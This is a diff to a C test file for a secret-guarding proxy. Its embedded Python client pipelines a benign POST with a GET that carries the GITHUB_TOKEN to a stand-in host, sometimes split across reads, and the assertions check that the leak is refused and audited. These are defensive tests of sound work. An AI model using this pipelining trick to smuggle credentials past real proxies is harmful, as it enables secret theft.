@@ -70,6 +70,7 @@ static const char server_py[] =
         "        b = c.recv(65536)\n"
         "        if not b: break\n"
         "        data += b\n"
+        "    if b'-slow' in data: threading.Event().wait(1)  # the client writes more meanwhile\n"
         "    c.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 14\\r\\n\\r\\nauthenticated\\n')\n"
         "    c.shutdown(socket.SHUT_WR)\n"
         "    while True:\n"
@@ -560,15 +561,22 @@ static void test_secrets__https_pipelined_request_is_checked(void **state) {
  * at once, the first with a body; the second's placeholder for another host is refused after the first's
  * answer, audited, and never sent upstream — to a secret's host or to any other. */
 static const char plain_pipelined_py[] =
-        "import os, socket, sys, urllib.parse\n"
+        "import os, socket, sys, time, urllib.parse\n"
         "host, port, token = sys.argv[1], int(sys.argv[2]), os.environ['GITHUB_TOKEN'].encode()\n"
-        "body = (b'Transfer-Encoding: chunked\\r\\n\\r\\n5;x=y\\r\\nhello\\r\\n0\\r\\nX-T: 1\\r\\n\\r\\n'\n"
-        "        if sys.argv[3] == 'chunked' else b'Content-Length: 5\\r\\n\\r\\nhello')\n"
+        "body = {'chunked': b'Transfer-Encoding: chunked\\r\\n\\r\\n5;x=y\\r\\nhello\\r\\n0\\r\\nX-T: "
+        "1\\r\\n\\r\\n',\n"
+        "        'length': b'Content-Length: 5\\r\\n\\r\\nhello', 'none': b'\\r\\n'}[sys.argv[3]]\n"
         "p = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])\n"
         "s = socket.create_connection((p.hostname, p.port))\n"
         "u = b'http://%s:%d/plain-pipe' % (host.encode(), port)\n"
-        "s.sendall(b'POST ' + u + b'-one HTTP/1.1\\r\\nHost: x\\r\\n' + body +\n"
-        "          b'GET ' + u + b'-leak HTTP/1.1\\r\\nHost: x\\r\\nX-Token: ' + token + b'\\r\\n\\r\\n')\n"
+        "first = b'POST ' + u + b'-one HTTP/1.1\\r\\nHost: x\\r\\n' + body\n"
+        "second = b'GET ' + u + b'-leak HTTP/1.1\\r\\nHost: x\\r\\nX-Token: ' + token + b'\\r\\n\\r\\n'\n"
+        "if len(sys.argv) > 4:  # the next request in a later read, while the upstream is still answering\n"
+        "    s.sendall(first.replace(b'-one ', b'-one-slow ')); time.sleep(0.3)\n"
+        "    try: s.sendall(second + second)\n"
+        "    except OSError: pass\n"
+        "else:\n"
+        "    s.sendall(first + second)\n"
         "out = b''\n"
         "while True:\n"
         "    d = s.recv(65536)\n"
@@ -606,6 +614,11 @@ static void test_secrets__plain_pipelined_request_is_checked(void **state) {
                 assert_secret_event("secret_exfiltration_refused", cases[i][0], "GITHUB_TOKEN",
                                     "secrets-plain-pipe");
         }
+        /* The next request in a read of its own, after a body or after none: never sent upstream either. */
+        static const char *const later[] = {"length", "none"};
+        for (size_t i = 0; i < sizeof(later) / sizeof(later[0]); i++)
+                cJSON_Delete(sh(fd, (int) i + 10, "python3 /tmp/pipe.py other.test %d %s split", g.raw_port,
+                                later[i]));
         assert_true(raw_server_saw("/plain-pipe-one"));
         assert_true(raw_server_saw("hello"));
         assert_false(raw_server_saw("/plain-pipe-leak"));
